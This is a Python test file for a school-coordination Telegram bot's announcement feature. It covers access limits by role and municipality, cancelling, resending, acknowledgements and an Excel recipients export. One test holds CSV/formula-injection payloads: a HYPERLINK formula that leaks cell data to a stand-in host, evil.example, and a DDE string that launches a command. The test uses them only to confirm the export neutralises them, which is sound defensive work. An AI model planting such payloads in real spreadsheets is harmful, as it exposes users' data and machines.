from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, func, select
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker

from bot import notices
from bot.i18n import Translator
from bot.reports.recipients import recipients_workbook
from bot.services import audit, broadcasts
from bot.services.audience import Audience
from bot.services.delivery import Payload
from bot.services.errors import AccessDenied, DomainError
from scheduler.delivery import DeliveryLoop
from storage.models import (
    Broadcast,
    BroadcastStatus,
    OutboxMessage,
    OutboxStatus,
    Participant,
    Role,
)
from tests.support.people import load_schools, municipality_id, on_telegram, person
from tests.support.recording import recording_bot
from tests.support.sheets import xlsx_texts

MOSCOW = ZoneInfo("Europe/Moscow")


def render(broadcast: Broadcast, _: Participant) -> Payload:
    return Payload(broadcast.text)


async def region(session: AsyncSession) -> dict[str, Participant]:
    schools = await load_schools(session)
    return {
        "kirishi_director": await person(session, Role.DIRECTOR, schools=[schools["47001"]]),
        "budogosch_director": await person(
            session, Role.DIRECTOR, schools=[schools["47002"]], name="Будогощь Директор"
        ),
        "tosno_director": await person(
            session, Role.DIRECTOR, schools=[schools["47101"]], name="Тосно Директор"
        ),
        "kirishi_curator": await person(
            session, Role.CURATOR, schools=[schools["47001"]], name="Кур Кир"
        ),
        "municipal": await person(session, Role.MUNICIPAL_COORDINATOR, municipality="Киришский"),
        "regional": await person(session, Role.REGIONAL_COORDINATOR),
    }


async def test_a_municipal_coordinator_reaches_only_their_municipality(
    session: AsyncSession,
) -> None:
    people = await region(session)
    directors = Audience(roles=(Role.DIRECTOR,))
    assert await broadcasts.audience_size(session, people["municipal"], directors) == 2
    assert await broadcasts.audience_size(session, people["regional"], directors) == 3
    tosno = await municipality_id(session, "Тосненский")
    # Asking for another municipality is refused (it is no button's: forged).
    forged = Audience(roles=(Role.DIRECTOR,), municipality_ids=(tosno,))
    with pytest.raises(AccessDenied):
        await broadcasts.audience_size(session, people["municipal"], forged)
    with pytest.raises(AccessDenied):
        await broadcasts.create(
            session,
            people["municipal"],
            text="Тосно",
            audience=forged,
            send_at=datetime.now(UTC),
            render=render,
        )
    with pytest.raises(AccessDenied):
        await broadcasts.audience_size(session, people["kirishi_director"], directors)

    created = await broadcasts.create(
        session,
        people["municipal"],
        text="<b>Важно</b>: сдать отчёт",
        audience=directors,
        send_at=datetime.now(UTC),
        render=render,
        acknowledge=True,
    )
    assert created.recipients == 2
    recipients = set(
        await session.scalars(
            select(OutboxMessage.participant_id).where(OutboxMessage.kind == "broadcast")
        )
    )
    assert recipients == {people["kirishi_director"].id, people["budogosch_director"].id}
    with pytest.raises(AccessDenied):  # a director sees no reports
        await broadcasts.get(session, people["kirishi_director"], created.id)
    assert (await broadcasts.get(session, people["regional"], created.id)).id == created.id


async def test_cancel_withdraws_what_is_not_sent(
    session: AsyncSession, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    people = await region(session)
    later = datetime.now(UTC) + timedelta(hours=2)
    created = await broadcasts.create(
        session,
        people["regional"],
        text="Позже",
        audience=Audience(),
        send_at=later,
        render=render,
    )
    cancelled = await broadcasts.cancel(session, people["regional"], created.id)
    progress = await broadcasts.progress(session, cancelled)
    assert (progress.left, progress.withdrawn, progress.sent) == (0, created.recipients, 0)
    with pytest.raises(DomainError, match="broadcast-finished"):
        await broadcasts.cancel(session, people["regional"], created.id)
    with pytest.raises(DomainError, match="broadcast-nobody"):
        await broadcasts.create(
            session,
            people["regional"],
            text="x",
            render=render,
            send_at=later,
            audience=Audience(programmes=("Нет такой",)),
        )


async def test_acknowledgements_reports_reminders_and_the_workbook(
    session: AsyncSession,
    session_factory: async_sessionmaker[AsyncSession],
    translator: Translator,
) -> None:
    people = await region(session)
    regional = people["regional"]
    created = await broadcasts.create(
        session,
        regional,
        text="Ознакомьтесь с приказом",
        send_at=datetime.now(UTC),
        audience=Audience(roles=(Role.DIRECTOR,)),
        acknowledge=True,
        render=lambda b, p: notices.announcement(translator.for_locale(p.locale), b),
    )
    bot, _recording = recording_bot()
    await DeliveryLoop(bot, session_factory, rate=1000).drain_once()
    now = datetime.now(UTC)
    await broadcasts.acknowledge(session, people["kirishi_director"], created.id, now)
    await broadcasts.acknowledge(session, people["kirishi_director"], created.id, now)  # twice
    with pytest.raises(AccessDenied):  # not a recipient
        await broadcasts.acknowledge(session, people["kirishi_curator"], created.id, now)
    progress = await broadcasts.progress(session, created)
    assert (progress.sent, progress.acknowledged, progress.finished) == (3, 1, True)

    lines = await broadcasts.recipients(session, regional, created.id)
    assert [(line.municipality, line.acknowledged_at is not None) for line in lines] == [
        ("Киришский", False),
        ("Киришский", True),
        ("Тосненский", False),
    ]
    reminded = await broadcasts.remind_unacknowledged(session, regional, created.id, render, 1)
    assert reminded == 2
    assert await broadcasts.remind_unacknowledged(session, regional, created.id, render, 1) == 0

    t = translator.for_locale("ru")
    workbook = load_workbook(io.BytesIO(recipients_workbook(lines, MOSCOW, t)))
    sheet = workbook.active
    assert sheet is not None
    assert sheet.title == "Получатели"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("ФИО", "Роль", "Муниципалитет", "Школа", "Доставка", "Ознакомлен")
    assert len(rows) == 4
    assert sheet.freeze_panes == "A2"
    assert sum(1 for row in rows[1:] if row[5]) == 1
    # Roles and delivery outcomes in words of the coordinator's language, not codes.
    assert {(row[1], row[4]) for row in rows[1:]} == {("директор школы", "доставлено")}
    english = recipients_workbook(lines, MOSCOW, translator.for_locale("en"))
    sheet = load_workbook(io.BytesIO(english)).active
    assert sheet is not None
    header, first, *_ = list(sheet.iter_rows(values_only=True))
    assert header[:2] == ("Full name", "Role")
    assert first[4] == translator.get("en", "delivery-sent")


def test_the_progress_counts_what_its_bar_shows(translator: Translator) -> None:
    """Blocked and failed messages are handled too: the figure beside the bar counts them."""
    progress = broadcasts.Progress(
        total=10, sent=5, blocked=2, failed=1, left=2, withdrawn=0, acknowledged=0, ambiguous=0
    )
    text = notices.progress_text(translator.for_locale("ru"), progress, cancelled=False)
    assert "▓▓▓▓▓▓▓▓░░ 8 из 10" in text
    assert "Доставлено: 5, заблокировали бота: 2, ошибки: 1, осталось: 2" in text


async def test_enqueueing_many_recipients_is_one_statement(session: AsyncSession) -> None:
    people = await region(session)
    created = await broadcasts.create(
        session,
        people["regional"],
        text="Всем",
        audience=Audience(),
        send_at=datetime.now(UTC),
        render=render,
    )
    count = await session.scalar(
        select(func.count())
        .select_from(OutboxMessage)
        .where(
            OutboxMessage.reference == broadcasts.reference(created),
            OutboxMessage.status == OutboxStatus.PENDING,
        )
    )
    assert count == created.recipients == 6


async def test_an_announcement_to_those_who_have_not_submitted_a_survey(
    session: AsyncSession,
) -> None:
    from bot.services import surveys
    from bot.services.survey_definitions import load_definition
    from bot.settings import PROJECT_ROOT

    people = await region(session)
    definition = load_definition(PROJECT_ROOT / "data/surveys/engagement_directors.yaml")
    loaded = await surveys.load(session, None, definition)
    now = datetime.now(UTC)
    await surveys.open_window(session, None, definition.code, now + timedelta(days=3), now)
    director = people["kirishi_director"]
    school = (await registration_schools(session, director))[0]
    response = await surveys.start(session, director, loaded.survey.id, now, school)
    response.status = "submitted"  # type: ignore[assignment]
    await session.commit()
    audience = Audience(unsubmitted_survey_id=loaded.survey.id)
    assert await broadcasts.audience_size(session, people["regional"], audience) == 2
    assert await broadcasts.audience_size(session, people["municipal"], audience) == 1


async def registration_schools(session: AsyncSession, person: Participant) -> list[int]:
    from bot.services import registration

    return [school.id for school in (await registration.profile(session, person)).schools]


def test_the_recipients_workbook_carries_no_formula(translator: Translator) -> None:
    leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
    person = on_telegram(1, full_name=leak, role=Role.DIRECTOR, locale="ru")
    lines = [
        broadcasts.RecipientLine(
            person,
            "+Киришский",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "sent",
            datetime(2026, 10, 5, 7, tzinfo=UTC),
        )
    ]
    t = translator.for_locale("ru")
    texts = xlsx_texts(recipients_workbook(lines, MOSCOW, t))
    assert texts[:6] == ["ФИО", "Роль", "Муниципалитет", "Школа", "Доставка", "Ознакомлен"]
    assert texts[6:10] == [leak, t("role-director"), "+Киришский", "@SUM(1+1)*cmd|' /C calc'!A0"]


async def test_resend_requeues_the_failed_and_ambiguous_copies_and_counts_are_true(
    session: AsyncSession,
    session_factory: async_sessionmaker[AsyncSession],
    translator: Translator,
) -> None:
    people = await region(session)
    regional = people["regional"]
    created = await broadcasts.create(
        session,
        regional,
        text="Приказ",
        send_at=datetime.now(UTC),
        audience=Audience(roles=(Role.DIRECTOR,)),
        render=render,
    )
    rows = {
        row.participant_id: row
        for row in await session.scalars(
            select(OutboxMessage).where(OutboxMessage.reference == f"broadcast:{created.id}")
        )
    }
    failed, ambiguous, sent = (
        rows[people[name].id]
        for name in ("kirishi_director", "budogosch_director", "tosno_director")
    )
    # A kill left one on the wire (ambiguous), an outage outlasted the window for another.
    failed.status, failed.attempts = OutboxStatus.FAILED, 20
    ambiguous.status = OutboxStatus.AMBIGUOUS
    sent.status = OutboxStatus.SENT
    created.status = BroadcastStatus.DONE
    await session.commit()
    progress = await broadcasts.progress(session, created)
    assert (progress.total, progress.sent, progress.failed, progress.ambiguous, progress.left) == (
        3,
        1,
        1,
        1,
        0,
    )
    text = notices.progress_text(translator.for_locale("ru"), progress, cancelled=False)
    assert "Доставлено: 1 из 3" in text
    assert "ошибки: 1, без подтверждения: 1" in text
    with pytest.raises(AccessDenied):  # the director may not resend anything
        await broadcasts.resend(session, people["kirishi_director"], created.id, datetime.now(UTC))

    now = datetime.now(UTC)
    assert await broadcasts.resend(session, regional, created.id, now) == 2
    assert await broadcasts.resend(session, regional, created.id, now) == 0  # pressed twice
    for row in (failed, ambiguous, sent):
        await session.refresh(row)
    assert (failed.status, failed.attempts, ambiguous.status, sent.status) == (
        OutboxStatus.PENDING,
        0,
        OutboxStatus.PENDING,
        OutboxStatus.SENT,
    )
    assert created.status == BroadcastStatus.SENDING  # the progress message follows
    bot, recording = recording_bot()
    await DeliveryLoop(bot, session_factory, rate=1000).drain_once()
    assert len(recording.requests) == 2
    progress = await broadcasts.progress(session, created)
    assert (progress.sent, progress.failed, progress.ambiguous) == (3, 0, 0)


async def test_a_stopped_announcement_is_not_resent(
    session: AsyncSession, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    people = await region(session)
    created = await broadcasts.create(
        session,
        people["regional"],
        text="Позже",
        audience=Audience(),
        send_at=datetime.now(UTC) + timedelta(hours=1),
        render=render,
    )
    await broadcasts.cancel(session, people["regional"], created.id)
    with pytest.raises(DomainError, match="broadcast-cancelled"):
        await broadcasts.resend(session, people["regional"], created.id, datetime.now(UTC))


async def test_stopping_and_counting_one_announcement_leave_the_others_alone(
    session: AsyncSession,
) -> None:
    people = await region(session)
    later = datetime.now(UTC) + timedelta(hours=1)
    first = await broadcasts.create(
        session,
        people["regional"],
        text="Первое",
        audience=Audience(roles=(Role.DIRECTOR,)),
        send_at=later,
        render=render,
    )
    # Another announcement whose reference starts with the first one's ("broadcast:1" and
    # "broadcast:10"): the tenth one, say.
    rows = list(await session.scalars(select(OutboxMessage)))
    session.add_all(
        OutboxMessage(
            kind=broadcasts.KIND,
            reference=f"broadcast:{first.id}0",
            participant_id=row.participant_id,
            channel=row.channel,
            chat_id=row.chat_id,
            payload=row.payload,
            due_at=later,
            status=OutboxStatus.PENDING,
            attempts=0,
        )
        for row in rows
    )
    await session.commit()
    assert (await broadcasts.progress(session, first)).total == len(rows)
    await broadcasts.cancel(session, people["regional"], first.id)
    other = await session.scalars(
        select(OutboxMessage.status)
        .where(OutboxMessage.reference == f"broadcast:{first.id}0")
        .execution_options(populate_existing=True)
    )
    assert set(other) == {OutboxStatus.PENDING}
    progress = await broadcasts.progress(session, first)
    assert (progress.total, progress.withdrawn) == (len(rows), len(rows))


async def test_the_recipients_list_takes_the_same_statements_for_one_or_many(
    session: AsyncSession,
) -> None:
    """Each recipient's schools are read in one statement, not one per recipient."""
    schools = await load_schools(session)
    regional = await person(session, Role.REGIONAL_COORDINATOR)
    statements: list[str] = []

    def count(*args: object) -> None:
        statements.append(str(args[2]))

    async def counted() -> int:
        created = await broadcasts.create(
            session,
            regional,
            text="Директорам",
            audience=Audience(roles=(Role.DIRECTOR,)),
            send_at=datetime.now(UTC),
            render=render,
        )
        engine = session.bind
        assert isinstance(engine, AsyncEngine)
        statements.clear()
        event.listen(engine.sync_engine, "before_cursor_execute", count)
        try:
            lines = await broadcasts.recipients(session, regional, created.id)
        finally:
            event.remove(engine.sync_engine, "before_cursor_execute", count)
        assert len(lines) == created.recipients
        return len(statements)

    await person(session, Role.DIRECTOR, schools=[schools["47001"]])
    one = await counted()
    for code, name in (("47002", "Петрова Анна"), ("47101", "Сидорова Вера")):
        await person(session, Role.DIRECTOR, schools=[schools[code]], name=name)
    assert await counted() == one


class Crash(Exception):
    """The process dies after the outbox was changed, before the rest was written."""


async def statuses(session: AsyncSession, broadcast: Broadcast) -> set[str]:
    rows = await session.scalars(
        select(OutboxMessage.status)
        .where(OutboxMessage.reference == broadcasts.reference(broadcast))
        .execution_options(populate_existing=True)
    )
    return set(rows)


async def test_stopping_withdraws_the_copies_only_together_with_the_stop(
    session: AsyncSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A crash while «Остановить» is recorded leaves the announcement going out as it was,
    not its copies withdrawn while it still says it is being sent."""
    people = await region(session)
    created = await broadcasts.create(
        session,
        people["regional"],
        text="Позже",
        audience=Audience(),
        send_at=datetime.now(UTC) + timedelta(hours=1),
        render=render,
    )

    def crash(*_: object, **__: object) -> None:
        raise Crash()

    with monkeypatch.context() as patched:
        patched.setattr(audit, "record", crash)
        with pytest.raises(Crash):
            await broadcasts.cancel(session, people["regional"], created.id)
    await session.rollback()
    await session.refresh(created)
    await session.refresh(people["regional"])
    assert created.status == BroadcastStatus.SCHEDULED
    assert await statuses(session, created) == {OutboxStatus.PENDING}
    await broadcasts.cancel(session, people["regional"], created.id)
    assert await statuses(session, created) == {OutboxStatus.DROPPED}


async def test_resending_requeues_the_copies_only_together_with_the_record_of_it(
    session: AsyncSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A crash while «Отправить повторно» is recorded requeues nothing: the announcement
    finished stays finished, its failed copies resendable."""
    people = await region(session)
    created = await broadcasts.create(
        session,
        people["regional"],
        text="Приказ",
        send_at=datetime.now(UTC),
        audience=Audience(roles=(Role.DIRECTOR,)),
        render=render,
    )
    for row in await session.scalars(select(OutboxMessage)):
        row.status = OutboxStatus.FAILED
    created.status = BroadcastStatus.DONE
    await session.commit()

    def crash(*_: object, **__: object) -> None:
        raise Crash()

    with monkeypatch.context() as patched:
        patched.setattr(audit, "record", crash)
        with pytest.raises(Crash):
            await broadcasts.resend(session, people["regional"], created.id, datetime.now(UTC))
    await session.rollback()
    await session.refresh(created)
    await session.refresh(people["regional"])
    assert created.status == BroadcastStatus.DONE
    assert await statuses(session, created) == {OutboxStatus.FAILED}
    assert await broadcasts.resend(session, people["regional"], created.id, datetime.now(UTC)) == 3
    assert await statuses(session, created) == {OutboxStatus.PENDING}
